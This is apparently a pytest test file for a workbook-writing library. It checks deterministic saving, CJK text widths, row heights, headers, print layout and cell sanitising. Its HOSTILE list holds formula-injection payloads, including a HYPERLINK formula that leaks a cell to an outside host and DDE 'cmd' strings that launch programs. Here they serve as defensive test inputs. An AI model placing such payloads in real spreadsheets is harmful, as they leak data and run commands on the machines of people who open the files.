"""House style of written workbooks: byte-stable saving, CJK-aware widths, row heights that
show wrapped text, and a header row with the panes frozen below it.
"""
from __future__ import annotations

import datetime as dt
import re
import time
import zipfile

import openpyxl
import pytest
from openpyxl import Workbook

from ledgerlib import xlsx


def _workbook() -> Workbook:
    wb = Workbook()
    ws = wb.active
    ws.title = "任务进展"
    xlsx.header_row(ws, 3, ["任务编号", "进展状态", "完成时间"], [10, 14, 12])
    ws.append(["T01", "已完成", dt.date(2021, 6, 3)])
    ws["C4"].number_format = xlsx.DATE_FORMAT
    xlsx.page_setup(ws)
    return wb


def test_same_workbook_saved_a_second_apart_gives_the_same_bytes(tmp_path):
    wb = _workbook()
    first = xlsx.save_workbook(wb, tmp_path / "a" / "运管科.xlsx")
    # openpyxl alone stamps the save time: check that the wait really crosses a second.
    wb.save(tmp_path / "plain_1.xlsx")
    time.sleep(1.1)
    wb.save(tmp_path / "plain_2.xlsx")
    second = xlsx.save_workbook(wb, tmp_path / "b" / "运管科.xlsx")
    assert (tmp_path / "plain_1.xlsx").read_bytes() != (tmp_path / "plain_2.xlsx").read_bytes()
    assert first.read_bytes() == second.read_bytes()
    assert [p.name for p in (tmp_path / "a").iterdir()] == ["运管科.xlsx"]  # no .tmp left behind


def test_saved_workbook_reads_back_and_stamps_the_created_date(tmp_path):
    wb = _workbook()
    wb.properties.created = dt.datetime(2021, 7, 1, 8, 0, 0)
    path = xlsx.save_workbook(wb, tmp_path / "t.xlsx")
    with zipfile.ZipFile(path) as z:
        core = z.read("docProps/core.xml").decode()
        assert all(info.date_time == (1980, 1, 1, 0, 0, 0) for info in z.infolist())
    stamps = re.findall(r"<dcterms:(created|modified)[^>]*>([^<]*)<", core)
    assert sorted(stamps) == [("created", "2021-07-01T08:00:00Z"), ("modified", "2021-07-01T08:00:00Z")]
    ws = openpyxl.load_workbook(path)["任务进展"]
    assert [c.value for c in ws[3]] == ["任务编号", "进展状态", "完成时间"]
    assert ws["B4"].value == "已完成" and ws["C4"].value == dt.datetime(2021, 6, 3)


def test_different_content_gives_different_bytes(tmp_path):
    a = xlsx.save_workbook(_workbook(), tmp_path / "a.xlsx")
    wb = _workbook()
    wb.active["B4"] = "推进中"
    b = xlsx.save_workbook(wb, tmp_path / "b.xlsx")
    assert a.read_bytes() != b.read_bytes()


@pytest.mark.parametrize("text,width", [("", 0), ("T15a", 4), ("运管科", 6), ("T01 运管科", 10),
                                        ("ＡＢ", 4), ("\u3000", 2), ("2021年6月3日", 12)])
def test_text_width_counts_cjk_and_full_width_as_two(text, width):
    assert xlsx.text_width(text) == width


def test_row_height_grows_with_wrapped_text():
    one_line = xlsx.row_height([("已完成", 14)])
    assert 12 <= one_line <= 24  # about one line of 11-point text
    assert xlsx.row_height([(None, 14)]) == one_line
    long_cjk = "按照省厅要求完成信用信息归集并按月报送" * 3
    taller = xlsx.row_height([(long_cjk, 14)])
    assert taller > one_line
    assert xlsx.row_height([(long_cjk, 40)]) < taller  # a wider column needs fewer lines
    # The same number of characters in Latin letters is half as wide: fewer lines.
    assert xlsx.row_height([("x" * len(long_cjk), 14)]) < taller
    # Line breaks typed in the cell count, and the tallest cell sets the row.
    assert xlsx.row_height([("甲\n乙\n丙", 40)]) > xlsx.row_height([("甲乙丙", 40)])
    assert xlsx.row_height([("已完成", 14), (long_cjk, 14), (None, 10)]) == taller


def test_header_row_styles_and_freezes_panes_below_it(tmp_path):
    wb = Workbook()
    ws = wb.active
    xlsx.header_row(ws, 4, ["填报单位", "报送月份"], [18, 12])
    assert ws.freeze_panes == "A5"
    for cell in ws[4]:
        assert cell.font.bold and cell.fill.fgColor.rgb.endswith("DDEBF7")
        assert cell.alignment.wrap_text and cell.border.left.style == "thin"
    path = xlsx.save_workbook(wb, tmp_path / "h.xlsx")
    back = openpyxl.load_workbook(path).active
    assert back.freeze_panes == "A5"
    assert [c.value for c in back[4]] == ["填报单位", "报送月份"]
    assert back.column_dimensions["A"].width == 18 and back.column_dimensions["B"].width == 12


def test_page_setup_is_a4_landscape_one_page_wide(tmp_path):
    path = xlsx.save_workbook(_workbook(), tmp_path / "p.xlsx")
    ws = openpyxl.load_workbook(path).active
    assert ws.page_setup.orientation == "landscape"
    assert int(ws.page_setup.paperSize) == int(ws.PAPERSIZE_A4)
    assert int(ws.page_setup.fitToWidth) == 1 and ws.sheet_properties.pageSetUpPr.fitToPage


def test_printed_type_size_on_both_sides_of_the_nine_point_line():
    # A4 landscape with 0.4" margins leaves 842 - 57.6 = 784.4 pt. Nine points of an 11-pt
    # font means a scale of 9/11: columns may add up to 784.4 * 11 / 9 = 958.7 pt.
    # One column of w characters prints (7w + 5) * 0.75 pt: w = 181.9 gives 958.7 pt.
    ws = openpyxl.Workbook().active
    ws.column_dimensions["A"].width = 181
    assert xlsx.printed_type_size(ws) >= 9.0
    ws.column_dimensions["A"].width = 183
    assert xlsx.printed_type_size(ws) < 9.0
    # Columns never given a width print at Excel's default 8.43 characters.
    ws = openpyxl.Workbook().active
    ws["J1"] = "x"
    assert xlsx.printed_type_size(ws) == pytest.approx(11.0)


def test_page_setup_repeats_rows_and_names_the_page(tmp_path):
    wb = _workbook()
    xlsx.page_setup(wb.active, title_rows="4:4", header=("问题清单：运管科.xlsx", "填报单位：A&B", ""))
    ws = openpyxl.load_workbook(xlsx.save_workbook(wb, tmp_path / "p.xlsx")).active
    assert ws.print_title_rows == "$4:$4"
    assert int(ws.page_setup.fitToHeight) == 0
    assert ws.oddHeader.left.text == "问题清单：运管科.xlsx"
    assert ws.oddHeader.center.text == "填报单位：A&&B"  # "&" is a code in Excel's header language
    assert "&P" in ws.oddFooter.center.text and "&N" in ws.oddFooter.center.text
    assert ws.page_margins.left == pytest.approx(0.4)


# --- every cell inert: text stays text, no error values, Excel's cell limit ----------------

HOSTILE = ['=HYPERLINK("http://x/?d="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "#N/A", "#DIV/0!"]


def test_user_text_is_saved_as_text_never_as_a_formula_or_an_error(tmp_path):
    wb = Workbook()
    ws = wb.active
    for i, text in enumerate(HOSTILE, start=1):
        ws.cell(row=i, column=1, value=text)  # openpyxl alone would make these formulas / errors
    ws.cell(row=1, column=2, value=5)
    path = xlsx.save_workbook(wb, tmp_path / "h.xlsx")
    sheet = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet and 't="e"' not in sheet
    back = openpyxl.load_workbook(path).active
    assert [back.cell(row=i, column=1).value for i in range(1, len(HOSTILE) + 1)] == HOSTILE
    assert all(back.cell(row=i, column=1).data_type == "s" for i in range(1, len(HOSTILE) + 1))
    # Excel's quote prefix keeps formula-like text text when someone edits the cell.
    assert [back.cell(row=i, column=1).quotePrefix for i in range(1, 6)] == [True] * 5
    assert back["B1"].value == 5 and back["B1"].data_type == "n"


def test_text_over_excels_cell_limit_is_cut_visibly_and_text_at_the_limit_is_kept(tmp_path):
    from ledgerlib import labels

    wb = Workbook()
    ws = wb.active
    xlsx.put(ws, 1, 1, "甲" * 32767)
    xlsx.put(ws, 2, 1, "乙" * 32768)
    xlsx.put(ws, 3, 1, "丙" * 10_000_000)  # the 10 MB cell a sender pasted
    back = openpyxl.load_workbook(xlsx.save_workbook(wb, tmp_path / "long.xlsx")).active
    assert back["A1"].value == "甲" * 32767
    for ref, n in (("A2", 32768), ("A3", 10_000_000)):
        note = labels.CELL_TRUNCATED.format(n=n)
        assert len(back[ref].value) == 32767 and back[ref].value.endswith(note)
        assert str(n) in note


def test_control_characters_a_sender_can_smuggle_in_are_shown_not_written_raw(tmp_path):
    wb = Workbook()
    xlsx.put(wb.active, 1, 1, "响铃\x07与\x00空字符")  # openpyxl alone raises IllegalCharacterError
    back = openpyxl.load_workbook(xlsx.save_workbook(wb, tmp_path / "c.xlsx")).active
    assert back["A1"].value == "响铃\ufffd与\ufffd空字符"
